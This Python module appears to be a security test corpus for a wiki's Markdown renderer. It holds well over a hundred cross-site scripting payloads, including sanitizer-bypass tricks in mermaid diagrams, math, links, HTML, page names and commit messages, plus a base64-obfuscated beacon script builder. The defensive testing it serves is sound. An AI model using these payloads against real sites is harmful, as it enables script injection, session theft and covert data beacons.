"""Hostile snippets: script hidden in every Markdown construct, page name, file name and message.

Each template names its payload with two tokens, filled in by `fill`: `@JS@` is a script that
sets the global `robotPwned` and fetches the snippet's beacon URL; `@URL@` is that beacon URL.
The script holds no dot, slash or space, so it also fits page and attachment names.
"""

from __future__ import annotations

import base64

FENCE = "```"

# (id, Markdown page content). Each snippet is complete on its own (fences closed), so they can
# also be joined into one page.
CONTENT = [
    # fenced code with odd info strings
    ("math-fence-img", f"{FENCE}math\n<img src=x onerror=@JS@>\n{FENCE}"),
    ("math-fence-numbered", f"{FENCE}math=\n<img src=x onerror=@JS@>\n{FENCE}"),
    ("math-fence-script", f"{FENCE}math\n</p><script>@JS@</script>\n{FENCE}"),
    ("math-fence-svg", f"{FENCE}math\n<svg onload=@JS@></svg>\n{FENCE}"),
    ("math-fence-tilde", "~~~math\n<img src=x onerror=@JS@>\n~~~"),
    (
        "math-fence-iframe",
        f'{FENCE}math\n<iframe srcdoc="<script>@JS@</script>"></iframe>\n{FENCE}',
    ),
    ("math-fence-href", f"{FENCE}math\n\\href{{javascript:@JS@}}{{click me}}\n{FENCE}"),
    (
        "mermaid-label-img",
        f'{FENCE}mermaid\ngraph TD\nA["<img src=x onerror=@JS@>"] --> B\n{FENCE}',
    ),
    (
        # A diagram's own init turning HTML labels back on, to smuggle the platform's
        # declarative handler attributes into the DOM (found in review).
        "mermaid-init-html-labels",
        f'{FENCE}mermaid\n%%{{init: {{"htmlLabels": true, "flowchart": {{"htmlLabels": true}}}}}}%%'
        f"\ngraph TD\nA[\"<b data-robot-onclick='@follow-checked-url' data-url-inline='/-/logout'"
        f" data-robot-nonce='guess'>@JS@</b>\"] --> B\n{FENCE}",
    ),
    (
        "mermaid-loose-init",
        f'{FENCE}mermaid\n%%{{init: {{"securityLevel": "loose"}}}}%%\ngraph TD\n'
        f'A["<img src=x onerror=@JS@>"] --> B\n{FENCE}',
    ),
    (
        "mermaid-click-href",
        f'{FENCE}mermaid\ngraph TD\nA --> B\nclick A "javascript:@JS@"\n{FENCE}',
    ),
    ("mermaid-click-call", f"{FENCE}mermaid\ngraph TD\nA --> B\nclick B call eval(@JS@)\n{FENCE}"),
    (
        "mermaid-sequence",
        f"{FENCE}mermaid\nsequenceDiagram\nA->>B: <img src=x onerror=@JS@>\n{FENCE}",
    ),
    ("mermaid-breakout", f"{FENCE}mermaid\n</pre><script>@JS@</script>\n{FENCE}"),
    # Review 60: a diagram's own config wrote CSS into its SVG (fetches on every view).
    (
        "mermaid-init-theme-css",
        f'{FENCE}mermaid\n%%{{init: {{"themeCSS": "@import url(@URL@);", '
        f'"fontFamily": "x;background:url(@URL@)"}}}}%%\ngraph TD\nA --> B\n{FENCE}',
    ),
    # Review 61: style statements write their CSS into the diagram's style too; by escapes
    # and mermaid's own entities (`#40;` is `(`) as well.
    (
        "mermaid-state-classdef-url",
        f"{FENCE}mermaid\nstateDiagram-v2\nclassDef bad fill:url(@URL@)\n[*] --> A\n"
        f"class A bad\n{FENCE}",
    ),
    (
        "mermaid-class-style-url",
        f"{FENCE}mermaid\nclassDiagram\nclass Aa\nstyle Aa fill:url(@URL@)\n{FENCE}",
    ),
    (
        "mermaid-class-classdef-url",
        f"{FENCE}mermaid\nclassDiagram\nclass Aa:::bad\nclassDef bad fill:url(@URL@)\n{FENCE}",
    ),
    (
        "mermaid-block-style-url",
        f"{FENCE}mermaid\nblock-beta\ncolumns 2\nA B\nclassDef bad fill:url(@URL@)\nclass A bad\n"
        f"style B fill:url(@URL@)\n{FENCE}",
    ),
    (
        "mermaid-style-escaped-url",
        f"{FENCE}mermaid\nclassDiagram\nclass Aa\nclass Bb\nstyle Aa fill:\\75 rl(@URL@)\n"
        f"style Bb fill:u\\rl(@URL@)\n{FENCE}",
    ),
    (
        "mermaid-style-entity-url",
        f"{FENCE}mermaid\nclassDiagram\nclass Aa\nclass Bb\nstyle Aa fill#58;url#40;@URL@)\n"
        f"style Bb fill:#117;rl(@URL@);\n{FENCE}",
    ),
    # Review 62: what mermaid's own reading joins or decodes: a directive it removes
    # mid-line or across lines, its entity markers typed as text, a `;` it drops; and a
    # sequence's `rect` colour, written into a fill attribute.
    (
        "mermaid-directive-splice",
        f"{FENCE}mermaid\nclassDiagram\nclass Aa\nstyle Aa fill:u%%{{x}}%%rl(@URL@)\n{FENCE}",
    ),
    (
        "mermaid-directive-lines-splice",
        f"{FENCE}mermaid\nstateDiagram-v2\nclassDef bad fill:u%%{{init:\n}}%%rl(@URL@)\n"
        f"[*] --> A\nclass A bad\n{FENCE}",
    ),
    (
        "mermaid-entity-markers",
        f"{FENCE}mermaid\nclassDiagram\nclass Aa\nclass Bb\n"
        f"style Aa fill:url\ufb02\u00b0\u00b040\u00b6\u00df@URL@)\n"
        f"style Bb fill:\ufb02\u00b0\u00b0117\u00b6\u00dfrl(@URL@)\n{FENCE}",
    ),
    (
        "mermaid-dropped-semicolon",
        f"{FENCE}mermaid\nclassDiagram\nclass Aa\nstyle Aa fill:#f00,stroke:url;(@URL@)\n{FENCE}",
    ),
    (
        "mermaid-sequence-rect",
        f"{FENCE}mermaid\nsequenceDiagram\nrect url(@URL@)\nA->>B: hi\nend\n{FENCE}",
    ),
    # Review 63: a classDef that closes mermaid's style element and opens one of its own, and
    # front matter that hid a spliced `url(` from the check.
    (
        "mermaid-style-breakout",
        f"{FENCE}mermaid\nstateDiagram-v2\n"
        f'classDef bad --a:x</style><style>@import "@URL@"</style>\n[*] --> A\nclass A bad\n'
        f"{FENCE}",
    ),
    (
        "mermaid-block-style-breakout",
        f"{FENCE}mermaid\nblock-beta\ncolumns 1\nA\n"
        f'classDef bad --a:x</style><style>@import "@URL@"</style>\nclass A bad\n{FENCE}',
    ),
    (
        "mermaid-front-matter-splice",
        f"{FENCE}mermaid\n---\ntitle: |\n  %%{{x\n---\nclassDiagram\nclass Aa\n"
        f"style Aa fill:#f00,stroke:url;(@URL@)\n%% }}%%\n{FENCE}",
    ),
    # Review 64: the `;` a state or block diagram's own parser takes out of a style.
    (
        "mermaid-state-classdef-semicolon",
        f"{FENCE}mermaid\nstateDiagram-v2\nclassDef bad background:u;rl(@URL@),fill:u;rl(@URL@)\n"
        f"A --> B\nclass A bad\n{FENCE}",
    ),
    (
        "mermaid-state-style-semicolon",
        f"{FENCE}mermaid\nstateDiagram-v2\nA --> B\nstyle A fill:u;rl(@URL@)\n{FENCE}",
    ),
    (
        "mermaid-block-classdef-semicolon",
        f"{FENCE}mermaid\nblock-beta\ncolumns 2\na b\nclassDef k fill:u;rl(@URL@)\nclass a k\n"
        f"{FENCE}",
    ),
    # Review 65: CSS comments that stylis drops, carried by a custom property into a
    # property that fetches.
    (
        "mermaid-state-comment-splice",
        f"{FENCE}mermaid\nstateDiagram-v2\n[*] --> A\n"
        f"classDef x --a:u/**/rl(@URL@),mask-image:var(--a)\nclass A x\n{FENCE}",
    ),
    (
        "mermaid-block-comment-splice",
        f"{FENCE}mermaid\nblock-beta\ncolumns 1\nA\n"
        f"classDef x --a:u/**/rl(@URL@),mask-image:var(--a)\nclass A x\n{FENCE}",
    ),
    # Review 66: an entity marker split by a `;` or a comment, whole again once they go.
    (
        "mermaid-split-marker-semicolon",
        f"{FENCE}mermaid\nstateDiagram-v2\n[*] --> A\nclassDef x "
        f"--a:\ufb02;\u00b0\u00b0117rl(@URL@),mask-image:var(--a),fill:red\nclass A x\n{FENCE}",
    ),
    (
        "mermaid-split-marker-comment",
        f"{FENCE}mermaid\nstateDiagram-v2\n[*] --> A\nclassDef x --a:\ufb02/**/\u00b0\u00b0117"
        f"\u00b6/**/\u00dfrl(@URL@),mask-image:var(--a),fill:red\nclass A x\n{FENCE}",
    ),
    (
        "mermaid-init-theme-variables",
        f'{FENCE}mermaid\n%%{{init: {{"themeVariables": {{"primaryColor": '
        f'"red;background:url(@URL@)", "fontFamily": "x;background:url(@URL@)"}}, '
        f'"altFontFamily": "y;background:url(@URL@)"}}}}%%\ngraph TD\nA --> B\n{FENCE}',
    ),
    # Review 55: label text of more diagram kinds that mermaid's sanitizer parses as HTML.
    (
        "mermaid-markdown-label",
        f'{FENCE}mermaid\ngraph TD\nA["`<img src=x onerror=@JS@>`"] --> B\n{FENCE}',
    ),
    (
        "mermaid-class-member",
        f"{FENCE}mermaid\nclassDiagram\nclass Vault\nVault : +<img src=x onerror=@JS@>\n{FENCE}",
    ),
    (
        "mermaid-gantt-title",
        f"{FENCE}mermaid\ngantt\ntitle <svg/onload=@JS@>\nsection S\n"
        f"T :a1, 2024-01-01, 1d\n{FENCE}",
    ),
    ("mermaid-pie-title", f'{FENCE}mermaid\npie title <img\tsrc=x onerror=@JS@>\n"A" : 1\n{FENCE}'),
    ("mermaid-state-note", f"{FENCE}mermaid\nstateDiagram-v2\nS1 : <br/onmouseover=@JS@>\n{FENCE}"),
    (
        "mermaid-annotation",
        f"{FENCE}mermaid\nclassDiagram\nclass K\n<<img src=x onerror=@JS@>> K\n{FENCE}",
    ),
    ("info-quote-img", f'{FENCE}"><img src=x onerror=@JS@>\nplain\n{FENCE}'),
    ("info-attr-inject", f'{FENCE}python" onmouseover="@JS@\nprint(1)\n{FENCE}'),
    ("info-script-tag", f"{FENCE}<script>@JS@</script>\nx\n{FENCE}"),
    ("info-html-lang", f"{FENCE}html\n<script>@JS@</script>\n{FENCE}"),
    ("info-unknown-lang", f"{FENCE}nosuchlang<svg/onload=@JS@>\n<b>x</b>\n{FENCE}"),
    ("info-numbered-html", f"{FENCE}html=\n<img src=x onerror=@JS@>\n{FENCE}"),
    ("info-braces", f"{FENCE}{{onload=@JS@}}\n<img src=x onerror=@JS@>\n{FENCE}"),
    ("indented-code", "para\n\n    <script>@JS@</script>\n    <img src=x onerror=@JS@>"),
    ("codespan-html", "`<img src=x onerror=@JS@>` and ``<script>@JS@</script>``"),
    # math inline and block
    ("math-inline-img", "Inline $<img src=x onerror=@JS@>$ math."),
    ("math-inline-script", "Inline $</p><script>@JS@</script>$ math."),
    ("math-display-svg", "$$<svg onload=@JS@></svg>$$"),
    ("math-block-multiline", "$$\n</p><img src=x onerror=@JS@>\n$$"),
    ("math-codespan", "`$<img src=x onerror=@JS@>$`"),
    ("math-in-list", "- item $$<img src=x onerror=@JS@>$$"),
    ("math-href", "$\\href{javascript:@JS@}{x}$"),
    ("math-class-style", "$\\class{x}{\\style{background:url(javascript:@JS@)}{y}}$"),
    ("math-data-robot", "$\\data{robot-click=eval}{x}$ $\\cssId{robot}{y}$ $\\class{robot}{@JS@}$"),
    ("math-paren", "\\(<img src=x onerror=@JS@>\\)"),
    # links and images
    ("link-js", "[click](javascript:@JS@)"),
    ("link-js-case", "[click](JaVaScRiPt:@JS@)"),
    ("link-js-entity", "[click](&#106;avascript:@JS@)"),
    ("link-js-hex-entity", "[click](&#x6A;&#x61;vascript:@JS@)"),
    ("link-js-tab", "[click](java&#x09;script:@JS@)"),
    ("link-js-spaces", "[click](<  javascript:@JS@>)"),
    ("link-data-html", "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("link-vbscript", "[click](vbscript:msgbox(1))"),
    ("link-title-break", '[click](/x "t\\" onmouseover=\\"@JS@")'),
    ("link-url-break", '[click](/x"onmouseover="@JS@)'),
    ("link-reference", "[click][evil]\n\n[evil]: javascript:@JS@"),
    ("link-autolink", "<javascript:@JS@>"),
    ("link-html-text", "[<img src=x onerror=@JS@>](/ok)"),
    ("image-js", "![alt](javascript:@JS@)"),
    ("image-break", '![alt](x" onerror="@JS@)'),
    ("image-alt-break", '![" onerror="@JS@](/x.png)'),
    ("image-title-break", '![alt](/x.png "a\\" onerror=\\"@JS@")'),
    ("image-svg-data", "![alt](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+)"),
    # raw HTML blocks and inline HTML
    ("html-script", "<script>@JS@</script>"),
    ("html-script-inline", "text <script>@JS@</script> text"),
    ("html-img-onerror", "<img src=x onerror=@JS@>"),
    ("html-img-inline", "before <img src=x onerror=@JS@> after"),
    ("html-svg-onload", "<svg onload=@JS@></svg>"),
    ("html-svg-script", "<svg><script>@JS@</script></svg>"),
    (
        "html-svg-animate",
        '<svg><a><animate attributeName="href" values="javascript:@JS@"/>'
        '<text y="20">x</text></a></svg>',
    ),
    ("html-svg-use", '<svg><use href="data:image/svg+xml,&lt;svg onload=@JS@&gt;"/></svg>'),
    (
        "html-math",
        "<math><mtext><script>@JS@</script></mtext>"
        '<maction href="javascript:@JS@">x</maction></math>',
    ),
    ("html-iframe-js", '<iframe src="javascript:@JS@"></iframe>'),
    ("html-iframe-srcdoc", '<iframe srcdoc="<script>@JS@</script>"></iframe>'),
    (
        "html-iframe-fake-youtube",
        '<iframe src="https://www.youtube.com.evil.test/embed/x"></iframe>',
    ),
    (
        "html-iframe-youtube-onload",
        '<iframe src="https://www.youtube.com/embed/x" onload="@JS@"></iframe>',
    ),
    ("html-object", '<object data="javascript:@JS@"></object>'),
    ("html-embed", '<embed src="javascript:@JS@">'),
    ("html-a-js", '<a href="javascript:@JS@">click</a>'),
    ("html-a-js-entity", '<a href="&#106;avascript:@JS@">click</a>'),
    ("html-form", '<form action="javascript:@JS@"><button>go</button></form>'),
    ("html-input-autofocus", "<input autofocus onfocus=@JS@>"),
    ("html-details-toggle", "<details open ontoggle=@JS@><summary>s</summary>x</details>"),
    ("html-body-onload", "<body onload=@JS@>"),
    ("html-style-import", "<style>@import url(javascript:@JS@);</style>"),
    ("html-style-attr", '<div style="background:url(javascript:@JS@)">x</div>'),
    ("html-meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:@JS@">'),
    ("html-base", '<base href="javascript:@JS@//">'),
    ("html-link-preload", '<link rel="prefetch" href="@URL@">'),
    ("html-video-source", "<video><source onerror=@JS@></video>"),
    ("html-audio", "<audio src=x onerror=@JS@></audio>"),
    ("html-data-robot", '<button data-robot-click="@JS@" class="copy-to-clipboard">x</button>'),
    ("html-data-robot-span", '<span data-robot-bind="eval" data-x="@JS@">x</span>'),
    ("html-comment-breakout", "<!--><script>@JS@</script>-->"),
    ("html-noscript", '<noscript><p title="</noscript><img src=x onerror=@JS@>"></noscript>'),
    ("html-template", "<template><script>@JS@</script></template>"),
    ("html-select-style", "<select><style></style><img src=x onerror=@JS@></select>"),
    ("html-textarea", "<textarea></textarea><img src=x onerror=@JS@>"),
    ("html-xmp", "<xmp><img src=x onerror=@JS@></xmp>"),
    ("html-marquee", "<marquee onstart=@JS@>x</marquee>"),
    ("html-button-formaction", '<button formaction="javascript:@JS@">x</button>'),
    ("html-cdata", "<![CDATA[><img src=x onerror=@JS@>]]>"),
    ("html-backtick-attr", "<img src=`x` onerror=@JS@>"),
    ("html-nested-quote", '<p title="a"onclick="@JS@">x</p>'),
    ("html-uppercase", "<IMG SRC=x ONERROR=@JS@>"),
    ("html-slash-attr", "<img/src=x/onerror=@JS@>"),
    ("html-split-tag", "<scr<script>ipt>@JS@</scr</script>ipt>"),
    # attributes Otterwiki's own cleaner lets through
    (
        "attr-class-id",
        '<span class="copy-to-clipboard" id="switch-headings" onclick="@JS@">x</span>',
    ),
    ("attr-style-expression", '<span style="width:expression(@JS@)">x</span>'),
    # wiki links
    ("wikilink-js", "[[javascript:@JS@]]"),
    ("wikilink-label-js", "[[click|javascript:@JS@]]"),
    ("wikilink-img", "[[<img src=x onerror=@JS@>]]"),
    ("wikilink-label-img", "[[<img src=x onerror=@JS@>|Home]]"),
    ("wikilink-quote", '[[x" onmouseover="@JS@]]'),
    ("wikilink-fragment", '[[Home#"><script>@JS@</script>]]'),
    ("wikilink-data", "[[data:text/html,<script>@JS@</script>]]"),
    # table cells
    ("table-img", "| a | b |\n|---|---|\n| <img src=x onerror=@JS@> | x |"),
    ("table-link", "| a |\n|---|\n| [x](javascript:@JS@) |"),
    ("table-math", "| a |\n|---|\n| $<img src=x onerror=@JS@>$ |"),
    ("table-align", "| a |\n|:-:|\n| <svg onload=@JS@> |"),
    # footnotes
    ("footnote-label", "x[^<img src=x onerror=@JS@>]\n\n[^<img src=x onerror=@JS@>]: note"),
    ("footnote-body", "x[^1]\n\n[^1]: <script>@JS@</script><img src=x onerror=@JS@>"),
    ("footnote-quote", 'x[^a" onmouseover="@JS@]\n\n[^a" onmouseover="@JS@]: note'),
    # headings and their anchors
    ("heading-img", "# <img src=x onerror=@JS@>"),
    ("heading-quote", '## x" onmouseover="@JS@'),
    ("heading-link", "### [x](javascript:@JS@)"),
    ("heading-setext", "<svg onload=@JS@>\n==="),
    ("heading-math", "# $<img src=x onerror=@JS@>$"),
    # front matter
    ("frontmatter-title", "---\ntitle: <img src=x onerror=@JS@>\n---\n\nbody"),
    (
        "frontmatter-script",
        '---\ntitle: "</title><script>@JS@</script>"\nx: <svg onload=@JS@>\n---\n\nbody',
    ),
    # alerts, spoilers, folds, fancy blocks, embeddings
    ("alert-body", "> [!NOTE]\n> <img src=x onerror=@JS@>"),
    ("alert-type", '> [!NOTE" onclick="@JS@]\n> body'),
    ("spoiler", ">! <img src=x onerror=@JS@>"),
    ("fold", ">| <svg onload=@JS@>\n> body <img src=x onerror=@JS@>"),
    ("fancy-block", "::: info\n# <img src=x onerror=@JS@>\n<script>@JS@</script>\n:::"),
    ("fancy-header", '::: warning "><img src=x onerror=@JS@>\nbody\n:::'),
    ("embed-video-js", "{{Video javascript:@JS@}}"),
    ("embed-video-break", '{{Video https://www.youtube.com/watch?v=x"onload="@JS@}}'),
    ("embed-video-source", '{{Video /x.mp4" onerror="@JS@}}'),
    ("embed-imageframe", "{{ImageFrame src=javascript:@JS@|caption=<img src=x onerror=@JS@>}}"),
    ("embed-imageframe-style", "{{ImageFrame src=/x.png|style=background:url(javascript:@JS@)}}"),
    ("embed-infobox", "{{InfoBox caption=<script>@JS@</script>|name=<img src=x onerror=@JS@>}}"),
    ("embed-figure", "{{Figure caption=<svg onload=@JS@>\n<img src=x onerror=@JS@>\n}}"),
    ("embed-datatable", "{{Datatable\n| <img src=x onerror=@JS@> |\n|---|\n| x |\n}}"),
    ("embed-pageindex", "{{PageIndex}}"),
    ("embed-attachmentlist", "{{AttachmentList}}"),
    ("embed-include", "{{include|src=/Corpus/math-fence-img}}\n\n{{include|src=/Everything}}"),
    ("abbr", "*[HTML]: <img src=x onerror=@JS@>\n\nHTML here"),
]

# (id, page path) for nested pages: breadcrumbs, titles, page index, search and history.
PAGE_NAMES = [
    ("name-img", "<img src=x onerror=@JS@>"),
    ("name-quote", '"><svg onload=@JS@>'),
    ("name-nested", "Dir<svg onload=@JS@>/Sub<img src=x onerror=@JS@>"),
    ("name-js", "javascript:@JS@"),
]

# (id, attachment file name) shown in attachment listings.
ATTACHMENT_NAMES = [
    ("file-img", "<img src=x onerror=@JS@>"),
    ("file-quote", '"><svg onload=@JS@>'),
    ("file-js", "javascript:@JS@"),
]

# (id, commit message) shown in history, changelog, blame and feeds.
COMMIT_MESSAGES = [
    ("message-img", "<img src=x onerror=@JS@>"),
    ("message-script", '"><script>@JS@</script>'),
    ("message-title", "</title><svg onload=@JS@>"),
    ("message-cdata", "]]></description><script>@JS@</script>"),
]


def beacon_js(url: str) -> str:
    """Script that sets `robotPwned` and fetches `url`, with no dot, slash, space or `|`."""
    padding = ""
    while True:  # pad the URL until its base64 has no '/' or '+'
        encoded = base64.b64encode((url + padding).encode()).decode()
        if "/" not in encoded and "+" not in encoded:
            return f"robotPwned=1;fetch(atob('{encoded}'))"
        padding = padding + "x" if padding else "?x"


def fill(template: str, url: str) -> str:
    """Fill in a template's `@JS@` and `@URL@` tokens with the beacon `url`."""
    return template.replace("@JS@", beacon_js(url)).replace("@URL@", url)
